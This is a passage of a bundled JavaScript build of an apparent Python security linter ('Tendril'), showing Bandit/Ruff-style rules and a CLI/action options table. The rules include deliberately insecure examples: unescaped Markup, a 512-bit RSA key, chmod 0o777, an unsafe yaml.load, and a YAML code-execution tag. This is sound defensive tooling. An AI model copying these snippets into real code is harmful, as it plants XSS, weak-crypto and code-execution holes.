        return {
            end() {
                const model = context.analysis(calls_1.calls);
                for (const call of model.callsToAssumed([...apis_1.SHELL_FUNCTIONS, ...apis_1.SUBPROCESS_FUNCTIONS])) {
                    if (apis_1.SUBPROCESS_FUNCTIONS.includes(call.assumedName) && !(0, commands_1.trueShell)(call))
                        continue;
                    if (wildcardCommand(call))
                        context.report(call.callee, `${(0, common_1.callName)(call)} runs a command with a wildcard that file names can turn into options`);
                }
            },
        };
    },
});


/***/ }),

/***/ 4429:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.unsafeMarkupUse = void 0;
/** Bandit B704 / Ruff S704: MarkupSafe's `Markup` applied to a value that is not a literal. */
const common_1 = __nccwpck_require__(8925);
const markup_1 = __nccwpck_require__(655);
exports.unsafeMarkupUse = (0, common_1.callRule)({
    id: 'unsafe-markup-use',
    name: 'UnsafeMarkupUse',
    bandit: 'B704',
    ruff: 'S704',
    severity: 'MEDIUM',
    confidence: 'HIGH',
    category: 'xss',
    cwe: [79],
    functions: ['markupsafe.Markup', 'flask.Markup'],
    check: markup_1.marksNonLiteral,
    message: (call) => `${(0, common_1.callName)(call)} applied to a value that is not a literal: anything in it reaches the page unescaped`,
    short: 'markupsafe Markup applied to a value that is not a literal',
    full: 'Markup marks a string as safe HTML; when the string is built at run time, user input in it reaches the page unescaped (XSS).',
    title: '`Markup` on a value built at run time',
    why: 'Jinja2 and Flask do not escape a `Markup` object. If a user-controlled value was formatted into it, its markup and scripts reach the page.',
    example: 'from markupsafe import Markup\n\nhtml = Markup(f"<b>{username}</b>")',
    fix: 'Escape the values: `Markup("<b>{}</b>").format(username)` or `markupsafe.escape(username)`.',
    fixed: 'from markupsafe import Markup\n\nhtml = Markup("<b>{}</b>").format(username)',
    notReported: ['Literal strings.'],
});


/***/ }),

/***/ 8048:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.weakCryptographicKey = void 0;
/**
 * Bandit B505 / Ruff S505, HIGH: an RSA or DSA key under 1024 bits, or an EC key under 160 bits.
 * Keys below 2048/224 bits but not below these are `short-cryptographic-key` (MEDIUM).
 */
const calls_1 = __nccwpck_require__(4463);
const common_1 = __nccwpck_require__(8925);
const key_sizes_1 = __nccwpck_require__(7538);
exports.weakCryptographicKey = (0, common_1.securityRule)({
    id: 'weak-cryptographic-key',
    name: 'WeakCryptographicKey',
    bandit: 'B505',
    ruff: 'S505',
    severity: 'HIGH',
    confidence: 'HIGH',
    category: 'cryptography',
    cwe: [326],
    short: 'RSA/DSA key under 1024 bits or EC key under 160 bits',
    full: 'A key is generated with a size that can be broken with modest resources (RSA/DSA under 1024 bits, elliptic curves under 160 bits).',
    title: 'A breakable cryptographic key size',
    why: 'The strength of RSA, DSA and elliptic-curve keys depends on their size. NIST and most standards require at least 2048 bits for RSA/DSA and 224 bits for elliptic curves; smaller keys can be factored or solved, exposing everything they sign or protect.',
    example: 'from cryptography.hazmat.primitives.asymmetric import rsa\n\nkey = rsa.generate_private_key(public_exponent=65537, key_size=512)',
    fix: 'Use RSA 3072 (at least 2048) bits, or an elliptic curve such as `ec.SECP256R1()` or Ed25519.',
    fixed: 'from cryptography.hazmat.primitives.asymmetric import rsa\n\nkey = rsa.generate_private_key(public_exponent=65537, key_size=3072)',
    notReported: ['Key sizes that are not integer literals (variables, settings).', 'Sizes between the two thresholds: `short-cryptographic-key`.'],
    note: '## Why two rules\n\nBandit grades B505 high below 1024 bits (160 for elliptic curves) and medium below 2048 (224). Tendril reports the two bands as `weak-cryptographic-key` (high) and `short-cryptographic-key` (medium); both answer to `B505` and `S505`.',
    uses: [calls_1.calls],
    create(context) {
        return {
            end() {
                for (const key of (0, key_sizes_1.generatedKeys)(context.analysis(calls_1.calls))) {
                    if (key.bits >= key.breakableBelow)
                        continue;
                    context.report(key.at, `${(0, common_1.callName)(key.call)} generates a ${key.bits}-bit ${key.kind} key; use at least ${key.recommended} bits`);
                }
            },
        };
    },
});


/***/ }),

/***/ 6455:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.worldWritableFilePermissions = void 0;
/** Bandit B103 / Ruff S103, high severity: `os.chmod` with a constant mode that makes the file world-writable. */
const common_1 = __nccwpck_require__(8925);
const file_modes_1 = __nccwpck_require__(7927);
exports.worldWritableFilePermissions = (0, common_1.securityRule)({
    ...file_modes_1.CHMOD_SPEC,
    id: 'world-writable-file-permissions',
    name: 'WorldWritableFilePermissions',
    severity: 'HIGH',
    short: 'os.chmod makes a file world-writable',
    full: 'os.chmod is called with a constant mode that lets every user of the machine write the file: anyone can replace its contents.',
    title: 'A world-writable file mode',
    why: 'A mode with the "others write" bit (`0o002`, as in `0o777` or `0o666`) lets every local user modify the file. If the program later reads, imports or executes it, another user controls what it does.',
    example: 'import os\n\nos.chmod("deploy.sh", 0o777)',
    fixed: 'import os\n\nos.chmod("deploy.sh", 0o700)',
    notReported: [...file_modes_1.CHMOD_NOT_REPORTED, 'Modes without the others-write bit.'],
    ...(0, file_modes_1.chmodModes)(file_modes_1.worldWritable, 'writable by every user'),
});


/***/ }),

/***/ 9307:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.yamlUnsafeLoad = void 0;
const arguments_1 = __nccwpck_require__(9950);
const common_1 = __nccwpck_require__(8925);
const SAFE = new Set(['yaml.SafeLoader', 'yaml.CSafeLoader', 'yaml.loader.SafeLoader', 'yaml.cyaml.CSafeLoader']);
function unsafe(call, model) {
    const loader = (0, arguments_1.argumentAt)(call.node, 1, 'Loader');
    if (!loader)
        return true;
    if (loader.type === 'list_splat')
        return false;
    const q = model.resolveAssumed(loader);
    return !(q && SAFE.has(q));
}
exports.yamlUnsafeLoad = (0, common_1.callRule)({
    id: 'yaml-unsafe-load',
    name: 'YamlUnsafeLoad',
    bandit: 'B506',
    ruff: 'S506',
    severity: 'MEDIUM',
    confidence: 'HIGH',
    category: 'deserialization',
    cwe: [20],
    functions: ['yaml.load'],
    check: (call, model) => unsafe(call, model),
    message: (call) => `${(0, common_1.callName)(call)} without a safe loader can build arbitrary Python objects; use \`yaml.safe_load\``,
    short: 'yaml.load without SafeLoader can construct arbitrary objects',
    full: "yaml.load is called without Loader=SafeLoader (or CSafeLoader). PyYAML's full and unsafe loaders can instantiate Python objects named in the document, which lets a crafted YAML file run code.",
    title: '`yaml.load` without a safe loader',
    why: 'YAML tags such as `!!python/object/apply:os.system` ask PyYAML to build Python objects and call functions. With any loader other than the safe ones, a YAML document from outside the program can run code.',
    example: 'import yaml\n\nconfig = yaml.load(stream, Loader=yaml.Loader)',
    fix: 'Use `yaml.safe_load(stream)` or `yaml.load(stream, Loader=yaml.SafeLoader)` (`CSafeLoader` for speed).',
    fixed: 'import yaml\n\nconfig = yaml.safe_load(stream)',
    notReported: ['`Loader=` resolving to `yaml.SafeLoader` or `yaml.CSafeLoader`.', '`yaml.safe_load` and `yaml.load` with `*args`.'],
});


/***/ }),

/***/ 2640:
/***/ ((__unused_webpack_module, exports) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.BANDS = exports.PRECISION_FOR_CONFIDENCE = exports.SECURITY_SEVERITY = void 0;
exports.bandOf = bandOf;
exports.SECURITY_SEVERITY = {
    HIGH: 8.0,
    MEDIUM: 5.5,
    LOW: 3.0,
};
exports.PRECISION_FOR_CONFIDENCE = {
    HIGH: 'high',
    MEDIUM: 'medium',
    LOW: 'low',
};
/** GitHub's bands, highest first, with the lowest score that falls in each. */
exports.BANDS = [
    { name: 'critical', min: 9.0 },
    { name: 'high', min: 7.0 },
    { name: 'medium', min: 4.0 },
    { name: 'low', min: 0.1 },
];
function bandOf(score) {
    for (const band of exports.BANDS)
        if (score >= band.min)
            return band.name;
    return 'low';
}


/***/ }),

/***/ 9551:
/***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {


var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
    if (k2 === undefined) k2 = k;
    var desc = Object.getOwnPropertyDescriptor(m, k);
    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
      desc = { enumerable: true, get: function() { return m[k]; } };
    }
    Object.defineProperty(o, k2, desc);
}) : (function(o, m, k, k2) {
    if (k2 === undefined) k2 = k;
    o[k2] = m[k];
}));
var __setModuleDefault = (this && this.__setModuleDefault) || (Object.create ? (function(o, v) {
    Object.defineProperty(o, "default", { enumerable: true, value: v });
}) : function(o, v) {
    o["default"] = v;
});
var __importStar = (this && this.__importStar) || (function () {
    var ownKeys = function(o) {
        ownKeys = Object.getOwnPropertyNames || function (o) {
            var ar = [];
            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
            return ar;
        };
        return ownKeys(o);
    };
    return function (mod) {
        if (mod && mod.__esModule) return mod;
        var result = {};
        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
        __setModuleDefault(result, mod);
        return result;
    };
})();
Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.configIn = configIn;
exports.findConfig = findConfig;
exports.commonDirectory = commonDirectory;
const fs = __importStar(__nccwpck_require__(9896));
const path = __importStar(__nccwpck_require__(6928));
const smol_toml_1 = __nccwpck_require__(7106);
const errors_1 = __nccwpck_require__(3916);
/** True when a pyproject.toml has a `[tool.tendril]` table; invalid TOML is an error naming the file. */
function hasTendrilTable(file) {
    let doc;
    try {
        doc = (0, smol_toml_1.parse)(fs.readFileSync(file, 'utf8'));
    }
    catch (error) {
        const first = (error instanceof Error ? error.message : String(error)).split('\n')[0];
        throw new errors_1.UsageError(`${file} is not valid TOML: ${first}`);
    }
    const tool = doc.tool;
    return typeof tool === 'object' && tool !== null && 'tendril' in tool;
}
/** The configuration file of one directory, if it has one (see findConfig). */
function configIn(dir) {
    for (const name of ['tendril.toml', '.tendril.toml']) {
        const file = path.join(dir, name);
        if (fs.existsSync(file))
            return file;
    }
    const pyproject = path.join(dir, 'pyproject.toml');
    if (fs.existsSync(pyproject) && hasTendrilTable(pyproject))
        return pyproject;
    return undefined;
}
/**
 * The configuration file used when none is named, found as Ruff finds its own: from `start` (the
 * directory of the analysed paths) upward, the nearest directory with `tendril.toml`, then
 * `.tendril.toml`, then a `pyproject.toml` that has a `[tool.tendril]` table (one without it is
 * passed over, but must still be valid TOML, as other Python tools also require).
 */
function findConfig(start) {
    let dir = path.resolve(start);
    if (fs.existsSync(dir) && !fs.statSync(dir).isDirectory())
        dir = path.dirname(dir);
    for (;;) {
        const file = configIn(dir);
        if (file)
            return file;
        const parent = path.dirname(dir);
        if (parent === dir)
            return undefined;
        dir = parent;
    }
}
/** The deepest directory holding every path: where the upward search for configuration starts. */
function commonDirectory(paths) {
    const dirs = paths.map((p) => {
        const abs = path.resolve(p);
        return fs.existsSync(abs) && !fs.statSync(abs).isDirectory() ? path.dirname(abs) : abs;
    });
    let common = dirs[0] ?? process.cwd();
    for (const dir of dirs.slice(1)) {
        while (common !== path.dirname(common) && path.relative(common, dir).startsWith('..'))
            common = path.dirname(common);
    }
    return common;
}


/***/ }),

/***/ 8031:
/***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {


var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
    if (k2 === undefined) k2 = k;
    var desc = Object.getOwnPropertyDescriptor(m, k);
    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
      desc = { enumerable: true, get: function() { return m[k]; } };
    }
    Object.defineProperty(o, k2, desc);
}) : (function(o, m, k, k2) {
    if (k2 === undefined) k2 = k;
    o[k2] = m[k];
}));
var __setModuleDefault = (this && this.__setModuleDefault) || (Object.create ? (function(o, v) {
    Object.defineProperty(o, "default", { enumerable: true, value: v });
}) : function(o, v) {
    o["default"] = v;
});
var __importStar = (this && this.__importStar) || (function () {
    var ownKeys = function(o) {
        ownKeys = Object.getOwnPropertyNames || function (o) {
            var ar = [];
            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
            return ar;
        };
        return ownKeys(o);
    };
    return function (mod) {
        if (mod && mod.__esModule) return mod;
        var result = {};
        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
        __setModuleDefault(result, mod);
        return result;
    };
})();
Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.Given = exports.RUN_WIDE_KEYS = exports.TOML_OPTIONS = exports.OPTION_LIST = exports.OPTIONS = void 0;
exports.cliParseOptions = cliParseOptions;
exports.cliHelp = cliHelp;
const fs = __importStar(__nccwpck_require__(9896));
const path = __importStar(__nccwpck_require__(6928));
const errors_1 = __nccwpck_require__(3916);
const analyze_1 = __nccwpck_require__(138);
const values_1 = __nccwpck_require__(535);
// Value types.
/** A text parser whose errors name the flag or input. */
function named(parse) {
    return (t, at) => parse(t, at.source);
}
const text = { name: 'text', text: (t) => t };
const onOff = { name: 'true or false', switch: (on) => on, toml: values_1.tomlBoolean };
const selectors = { name: 'rules', text: (t) => (0, values_1.parseList)(t), toml: values_1.tomlSelectors };
const threshold = { name: 'severity', text: named(values_1.parseThreshold), toml: (0, values_1.tomlText)(values_1.parseThreshold) };
const limit = { name: 'whole number or -1', text: named(values_1.parseLimit), toml: (0, values_1.tomlInteger)(-1) };
const patterns = {
    name: 'patterns',
    text: (t, at) => (0, values_1.compilePatterns)((0, values_1.parseList)(t), at.base),
    toml: values_1.tomlPatterns,
};
const size = { name: 'bytes', text: named(values_1.parseSize), toml: (0, values_1.tomlInteger)(1) };
const seconds = { name: 'seconds', text: named(values_1.parseJobs), toml: (0, values_1.tomlInteger)(1) };
const cacheDir = { name: 'directory or false', text: (t, at) => path.resolve(at.base, t), toml: values_1.tomlCacheDir };
const noCache = { name: 'switch', switch: () => false };
const existing = { name: 'file', text: (t, at) => (0, values_1.existingPath)(t, at.source, at.base) };
const gitRef = { name: 'git revision', text: (t) => t || undefined };
const sarifFile = { name: 'file', text: (t, at) => (t ? (0, values_1.existingPath)(t, at.source, at.base) : undefined) };
const directory = {
    name: 'directory',
    text: (t, at) => {
        const dir = path.resolve(at.base, t);
        if (!fs.existsSync(dir) || !fs.statSync(dir).isDirectory())
            throw new errors_1.UsageError(`${at.source}: not a directory: ${t}`);
        return dir;
    },
};
// The table. Its order is the order of the CLI's help, of action.yml and of the README's tables;
// configuration keys keep the order their error messages list them in.
exports.OPTIONS = {
    paths: {
        doc: "Files or directories to analyse: the CLI's arguments, or the input's lines (relative to the workspace or `working-directory`).",
        scope: 'run',
        type: {
            name: 'paths',
            text: (t, at) => {
                const paths = t
                    .split(/\r?\n/)
                    .map((p) => p.trim())
                    .filter(Boolean)
                    .map((p) => path.resolve(at.base, p));
                for (const p of paths) {
                    if (!fs.existsSync(p))
                        throw new errors_1.UsageError(`${at.source}: ${path.relative(at.base, p) || '.'} does not exist in the workspace`);
                }
                return paths;
            },
        },
        shownDefault: '`.`',
        input: {
            description: 'Files or directories to analyse, one per line, relative to the workspace.',
            default: '.',
            doc: 'Files or directories to analyse, one per line, relative to the workspace (or `working-directory`).',
        },
    },
    'working-directory': {
        doc: "The repository's checkout, relative to the workspace, when `actions/checkout` put it in a subdirectory (its `path` input).",
        scope: 'run',
        type: {
            name: 'directory',
            text: (t, at) => {
                const dir = path.resolve(at.base, t);
                if (!fs.existsSync(dir) || !fs.statSync(dir).isDirectory())
                    throw new errors_1.UsageError(`${at.source}: ${t} is not a directory in the workspace`);
                return dir;
            },
        },
        input: {
            description: "The repository's checkout, relative to the workspace, when actions/checkout put it in a subdirectory (its path input). Inputs that name files are relative to it, and so are the SARIF file's paths.",
        },
    },
    format: {
        doc: 'The report: `text`, `sarif` (code scanning) or `json`.',
        scope: 'adapter',
        type: { name: 'text, sarif or json', text: named((0, values_1.parseChoice)(['text', 'sarif', 'json'])) },
        default: 'text',
        cli: { arg: 'FORMAT', help: 'text (default), sarif or json' },
    },
    output: {
        doc: 'Write the report to this file instead of standard output.',
        scope: 'adapter',
        type: text,
        cli: { short: 'o', arg: 'FILE', help: 'Write the report to FILE instead of standard output' },
    },
    'sarif-file': {
        doc: 'Where to write the SARIF report.',
        scope: 'adapter',
        type: text,
        default: 'tendril.sarif',
        input: { description: 'Where to write the SARIF 2.1.0 report, relative to the workspace.', default: 'tendril.sarif' },
    },
    jobs: {
        doc: 'Worker threads.',
        scope: 'run',
        type: { name: 'whole number >= 1', text: named(values_1.parseJobs) },
        shownDefault: 'available cores',
        cli: { short: 'j', arg: 'N', help: 'Worker threads (default: available cores)' },
    },
    config: {
        doc: 'A configuration file for every file, instead of the nearest one of each file.',
        scope: 'run',
        type: existing,
        shownDefault: 'the nearest, for each file',
        cli: {
            arg: 'FILE',
            help: [
                'Configuration file for every file (default: for each file, the',
                'nearest tendril.toml, .tendril.toml or pyproject.toml with',
                '[tool.tendril], looking upward from it)',
            ].join('\n'),
        },
        input: {
            description: 'Configuration file (TOML) for every file. Default: for each file, the nearest tendril.toml, .tendril.toml or pyproject.toml with [tool.tendril], looking upward from it.',
            shownDefault: '',
            doc: 'A TOML configuration file for every file. Without it: for each file, the nearest `tendril.toml`, `.tendril.toml` or `pyproject.toml` with `[tool.tendril]` (see Configuration).',
        },
    },
    root: {
        doc: 'The directory SARIF paths are relative to.',
        scope: 'run',
        type: directory,
        shownDefault: 'git work tree',
        cli: {
            arg: 'DIR',
            help: ['Directory SARIF paths are relative to (default: the git work', 'tree holding the current directory, else the current directory)'].join('\n'),
        },
    },
    select: {
        doc: 'Only these rules: ids, aliases (`F401`, `B602`) or kinds (`security`, `maintainability`).',
        scope: 'profile',
        type: selectors,
        field: 'select',
        shownDefault: 'every rule',
        cli: { arg: 'RULES', help: 'Only these rules: ids, aliases (F401, B602) or kinds, comma-separated' },
        toml: { expected: 'a list of rule ids, aliases or kinds' },
    },
    ignore: {
        doc: 'Leave out these rules (same forms).',
        scope: 'profile',
        type: selectors,
        field: 'ignore',
        // --ignore names every rule to leave out: it replaces both ignore and skips of the file.
        cli: { arg: 'RULES', help: 'Leave out these rules (same forms)', replaces: ['skips'] },
        toml: { expected: 'a list of rule ids, aliases or kinds' },
    },
    'fail-on-security-severity': {
        doc: 'Fail when a (new) security alert is at or above this severity: `critical`, `high`, `medium` or `low`; `none` never fails on security alerts.',
        scope: 'run',
        type: threshold,
        field: 'failOnSecuritySeverity',
        default: 'high',
        cli: { arg: 'LEVEL', help: `${values_1.SEVERITY_THRESHOLDS.join('|')} (default: high)` },
        input: {
            description: 'Fail the step when a security alert (a new one, with a baseline) is at or above this severity: critical, high, medium, low or none. Default: fail-on-security-severity of the configuration, else high.',
            doc: 'Fail the step when a (new) security alert is at or above `critical`, `high`, `medium` or `low`; `none` never fails on security alerts.',
        },
        toml: { expected: `one of ${values_1.SEVERITY_THRESHOLDS.join(', ')}` },
    },
    'max-maintainability-findings': {
        doc: 'Fail when there are more maintainability notes than this; `-1` for no limit.',
        scope: 'run',
        type: limit,
        field: 'maxMaintainabilityFindings',
        default: -1,
        cli: { arg: 'N', help: 'Fail above N maintainability findings (default: -1, no limit)' },
        input: {
            description: 'Fail the step when there are more maintainability notes (all of them, new or not) than this; -1 for no limit. Default: max-maintainability-findings of the configuration, else -1.',
            doc: 'Fail the step when there are more maintainability notes than this; `-1` for no limit.',
        },
        toml: { expected: 'a whole number >= 0, or -1' },
    },
    'max-new-maintainability-findings': {
        doc: 'Fail when there are more new maintainability notes (not in the baseline) than this; `-1` for no limit.',
        scope: 'run',
        type: limit,
        field: 'maxNewMaintainabilityFindings',
        default: -1,
        cli: { arg: 'N', help: 'Fail above N new maintainability findings (default: -1, no limit)' },
        input: {
            description: 'Fail the step when there are more new maintainability notes (not in the baseline) than this; -1 for no limit. Default: -1.',
            doc: 'Fail the step when there are more new maintainability notes (not in the baseline) than this; `-1` for no limit.',
        },
    },
    skips: {
        doc: "Bandit's name for `ignore`: the rules of both are left out.",
        scope: 'profile',
        type: selectors,
        field: 'skips',
        toml: { expected: 'a list of rule ids, aliases (B101) or kinds, left out like ignore' },
    },
    'min-security-severity': {
        doc: "Security rules below this band are left out (Bandit's `-l`).",
        scope: 'profile',
        type: { name: 'severity', toml: (0, values_1.tomlText)(values_1.parseBand) },
        field: 'minSecuritySeverity',
        toml: { expected: 'one of critical, high, medium, low' },
    },
    exclude: {
        doc: 'Leave out these paths (gitignore-style); replaces the default excludes.',
        scope: 'profile',
        type: patterns,
        field: 'exclude',
        shownDefault: '`.git`, `.venv`, `build`, `dist`, ...',
        cli: {
            arg: 'PATTERNS',
            help: ['Leave out these paths (gitignore-style, comma-separated);', "replaces the default excludes and the configuration's"].join('\n'),
        },
        toml: { expected: 'a list of gitignore-style patterns' },
    },
    'extend-exclude': {
        doc: 'Leave out these paths as well.',
        scope: 'profile',
        type: patterns,
        field: 'extendExclude',
        cli: { arg: 'PATTERNS', help: 'Leave out these paths as well' },
        toml: { expected: 'a list of gitignore-style patterns' },
    },
    'per-file-ignores': {
        doc: 'Files matching a glob drop the findings of these rules.',
        scope: 'profile',
        type: { name: 'table', toml: values_1.tomlPerFileIgnores },
        field: 'perFileIgnores',
        toml: { expected: 'a table of glob = [rule ids, aliases or kinds]' },
    },
    'include-suppressed': {
        doc: 'Keep findings suppressed in the source, as SARIF `suppressions` (kind `inSource`).',
        scope: 'profile',
        type: onOff,
        field: 'includeSuppressed',
        default: false,
        cli: {
            help: ['Keep findings suppressed in the source (# noqa, # nosec, ...),', 'marked as suppressed (SARIF suppressions, kind inSource)'].join('\n'),
        },
        input: {
            description: 'Keep findings suppressed in the source (# noqa, # nosec, ...) in the SARIF file, marked as suppressed (kind inSource): true or false. GitHub ignores SARIF suppressions and shows them as open alerts, so the default is false; overrides the configuration key.',
            doc: "`true`: keep findings suppressed in the source, as SARIF `suppressions` (kind `inSource`); overrides the configuration's `include-suppressed`.",
        },
        toml: { expected: 'true or false' },
    },
    'max-file-size': {
        doc: 'Skip files larger than this many bytes, with a notification.',
        scope: 'run',
        type: size,
        field: 'maxFileSize',
        default: analyze_1.DEFAULT_BUDGET.maxFileSize,
        shownDefault: '`10M`',
        cli: { arg: 'SIZE', help: 'Skip files larger than SIZE bytes (K, M, G accepted; default: 10M)' },
        toml: { expected: 'a whole number of bytes >= 1' },
    },
    'file-timeout': {
        doc: 'Give up on a file after this many seconds, with a notification.',
        scope: 'run',
        type: seconds,
        field: 'fileTimeout',
        default: analyze_1.DEFAULT_BUDGET.timeoutSeconds,
        cli: { arg: 'SECONDS', help: 'Give up on a file after SECONDS (default: 60)' },
        toml: { expected: 'a whole number of seconds >= 1' },
    },
    'cache-dir': {
        doc: "The content-hash cache's directory; `false` turns it off.",
        scope: 'run',
        type: cacheDir,
        field: 'cacheDir',
        default: '.tendril_cache',
        shownDefault: '`.tendril_cache` in the root (the action: `RUNNER_TEMP/tendril-cache`)',
        cli: { arg: 'DIR', help: 'Content-hash cache of results (default: .tendril_cache in the root)', excludes: 'no-cache' },
        input: {
            description: 'Directory of the content-hash cache, absolute or relative to the workspace, outside the workspace (a cache the analysed commit can write is refused); restore and save it with actions/cache. "false" (any case) turns the cache off. Default: tendril-cache under RUNNER_TEMP. The configuration\'s cache-dir can turn it off (false) but not move it.',
            shownDefault: '`RUNNER_TEMP/tendril-cache`',
            doc: "The content-hash cache's directory, outside the workspace (see [Cache](#cache-with-actionscache)); `false` turns it off.",
            custom: true,
        },
        toml: { expected: 'a directory (relative to the configuration file), or false for no cache' },
    },
    'no-cache': {
        doc: 'Neither read nor write the cache.',
        scope: 'run',
        type: noCache,
        field: 'cacheDir',
        cli: { help: 'Neither read nor write the cache' },
    },
    rules: {
        doc: "Rules' options, one table per rule (`tendril explain RULE` lists them).",
        scope: 'profile',
        type: {
            name: 'table',
            toml: (value, site) => (0, values_1.tomlRuleOptions)(value, site, 'a table of rule options: [tool.tendril.rules.<rule-id>]'),
        },
        field: 'ruleOptions',
        toml: { expected: 'a table of rule options: [tool.tendril.rules.<rule-id>]' },
    },
    'baseline-ref': {
        doc: 'Git revision to compare with: findings are new or unchanged (SARIF `baselineState`); the gates count only new ones.',
        scope: 'run',
        type: gitRef,
        field: 'baselineRef',
        shownDefault: "none (the action: the pull request's merge target)",
        cli: {
            arg: 'REF',
            help: ['Compare with git revision REF: findings are new or unchanged (SARIF', 'baselineState); the severity gate counts only new ones'].join('\n'),
            excludes: 'baseline-sarif',
        },
        input: {
            description: 'Git revision to compare with: findings already there are "unchanged", the rest "new" (SARIF baselineState), and the severity gate and max-new-maintainability-findings count only new ones. Default: on pull_request, what the pull request merges into (the merge commit\'s first parent, or on a checkout of the head the merge base with the base branch); on merge_group, the queue\'s base; none otherwise. "none" turns it off. Missing commits are fetched from origin.',
            shownDefault: 'PR merge target',
            doc: "Git revision to compare with. Default: what the pull request merges into on `pull_request`, the queue's base on `merge_group`, none otherwise; `none` turns it off.",
            custom: true,
        },
    },
    'baseline-sarif': {
        doc: 'A previous Tendril SARIF file to compare with, instead of `baseline-ref`.',
        scope: 'run',
        type: sarifFile,
        field: 'baselineSarif',
        cli: { arg: 'FILE', help: 'Compare with a previous Tendril SARIF file instead' },
        input: { description: 'A previous Tendril SARIF file to compare with, instead of baseline-ref.' },
    },
    scope: {
        doc: '`changed`: analyse only the files changed against the baseline.',
        scope: 'run',
        type: { name: 'all or changed', text: named(values_1.parseScope) },
        field: 'scope',
        default: 'all',
        cli: { arg: 'all|changed', help: 'changed: only files changed against --baseline-ref (default: all)' },
        input: {
            description: 'all: analyse every file; changed: only files changed against the baseline (pull requests in large repositories). A changed-only analysis is written with categories of its own (tendril/security/changed/) and is never uploaded by upload: true.',
            default: 'all',
        },
    },
    shard: {
        doc: '`K/N`: analyse only the K-th of N shards of the files.',
        scope: 'run',
        type: { name: 'K/N', text: named(values_1.parseShard) },
        field: 'shard',
        cli: { arg: 'K/N', help: 'Analyse only the K-th of N shards of the files (see merge)' },
        input: {
            description: 'K/N: analyse only the K-th of N deterministic shards of the files (matrix jobs); merge the SARIF files with the merge input, and upload the merged file (a shard is never uploaded by upload: true).',
        },
    },
    merge: {
        doc: 'Merge mode: SARIF files of shards (one per line, `*` allowed in the file name) merged into `sarif-file`.',
        scope: 'adapter',
        type: text,
        input: {
            description: 'Merge mode: SARIF files written by shards (one per line, * allowed in the file name) are merged into sarif-file, and nothing is analysed.',
        },
    },
    quiet: {
        doc: 'Text format: findings only, no totals.',
        scope: 'adapter',
        type: onOff,
        default: false,
        cli: { short: 'q', help: 'Text format: findings only, no totals' },
    },
    statistics: {
        doc: 'Text format: a count per rule instead of each finding.',
        scope: 'adapter',
        type: onOff,
        default: false,
        cli: { help: 'Text format: a count per rule instead of each finding' },
    },
    'no-color': {
        doc: 'No colours (also when `NO_COLOR` is set or the output is not a terminal).',
        scope: 'adapter',
        type: onOff,
        default: false,
        cli: { help: 'No colours (also when NO_COLOR is set or output is not a terminal)' },
    },
    'sarif-maintainability': {
        doc: '`false`: leave the maintainability notes out of the SARIF file (so out of code scanning, which keeps 5,000 results per category); they still count for the gates and the summary.',
        scope: 'adapter',
        type: onOff,
        default: true,
        input: {
            description: 'Write the maintainability notes into the SARIF file (their own run and category), and so upload them: true or false. false keeps code scanning to security alerts (a never-linted repository can have tens of thousands of notes, and code scanning keeps 5,000 results per category); the notes still count for the gates and the job summary.',
            default: 'true',
        },
    },
    annotations: {
        doc: 'Annotate new findings (all findings without a baseline) in the pull request, at most 10 per level (what GitHub displays); the summary counts the rest.',
        scope: 'adapter',
        type: onOff,
        default: true,
        input: {
            description: 'Annotate new findings (all findings without a baseline) on the changed lines, up to what GitHub displays: true or false.',
            default: 'true',
        },
    },
    upload: {
        doc: 'Upload the SARIF file to code scanning directly (needs `security-events: write`).',
        scope: 'adapter',
        type: onOff,
        default: false,
        input: {
            description: 'Upload the SARIF file to code scanning directly (needs permissions: security-events: write), instead of github/codeql-action/upload-sarif: true or false. Skipped with a notice on pull requests from forks and Dependabot, whose token is read-only.',
            default: 'false',
        },
    },
    token: {
        doc: 'Token for the direct upload.',
        scope: 'adapter',
        type: text,
        input: { description: 'Token for the direct upload; masked in the log.', default: '${{ github.token }}', shownDefault: '`github.token`' },
    },
};
/** The table as a list, in its order, each option with its name. */
exports.OPTION_LIST = Object.entries(exports.OPTIONS).map(([name, option]) => ({
    name: name,
    ...option,
}));
const fieldsAgree = true;
void fieldsAgree;
/** The configuration keys, in the order errors list them. */
exports.TOML_OPTIONS = exports.OPTION_LIST.filter((o) => o.toml !== undefined);
/** Configuration keys that set run-wide behaviour: read only from the configuration the run starts from. */
exports.RUN_WIDE_KEYS = exports.TOML_OPTIONS.filter((o) => o.scope === 'run' && o.field !== undefined);
// The CLI.
/** `util.parseArgs`'s options for `tendril check`. */
function cliParseOptions() {
    const out = {};
    for (const o of exports.OPTION_LIST) {
        if (!o.cli)
            continue;
        out[o.name] = { type: o.cli.arg ? 'string' : 'boolean', ...(o.cli.short ? { short: o.cli.short } : {}) };
    }
    return out;
}
/** The help's lines for the flags of `tendril check`: the flag, then its help from column 37. */
function cliHelp() {
    const column = 35;
    const lines = [];
    for (const o of exports.OPTION_LIST) {
        if (!o.cli)
            continue;
        const { arg, short, help } = o.cli;
        const label = `--${o.name}${arg ? ` ${arg}` : ''}${short ? `, -${short}${arg ? ` ${arg}` : ''}` : ''}`;
        const [first, ...rest] = help.split('\n');
        if (label.length + 2 > column)
            lines.push(`  ${label}`, `  ${' '.repeat(column)}${first}`);
        else
            lines.push(`  ${label.padEnd(column)}${first}`);
